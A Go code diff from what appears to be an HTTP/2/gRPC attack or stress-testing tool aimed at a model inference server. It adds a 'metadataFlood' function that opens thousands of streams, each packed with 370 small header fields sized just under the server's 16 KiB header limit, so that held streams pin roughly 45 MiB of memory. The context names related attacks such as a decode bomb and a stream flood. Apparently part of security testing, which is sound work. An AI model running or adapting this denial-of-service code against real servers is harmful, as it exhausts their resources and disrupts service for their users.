@@ -3,6 +3,7 @@ package main
 import (
 	"bytes"
 	"context"
+	"strconv"
 
 	"golang.org/x/net/http2"
 	"golang.org/x/net/http2/hpack"
@@ -144,6 +145,24 @@ func decodeBomb(ctx context.Context, t target, s *session, rec *answers) {
 		}
 	}
 }
+
+// metadataFlood is streamFlood with 14 KiB of metadata on every stream,
+// just under limits.max_header_bytes (16 KiB) as HTTP/2 counts it (32
+// bytes a field more than its name and value): 370 keys of one byte each,
+// which cost the master a string pair and an entry in the stream's
+// metadata map apiece, for as long as the stream waits for its message
+// (body_timeout): 24 x 136 streams hold 45 MiB of header list.
+func metadataFlood(ctx context.Context, t target, s *session, rec *answers) {
+	floodStreams(ctx, t, s, rec, manyKeys...)
+}
+
+var manyKeys = func() []string {
+	var md []string
+	for i := range 370 {
+		md = append(md, "x-k"+strconv.Itoa(i), "v")
+	}
+	return md
+}()
 
 // int64Zeros is a ModelInferRequest (written field by field, so the
 // attacker does not hold the decoded form) for the MLP with one INT64
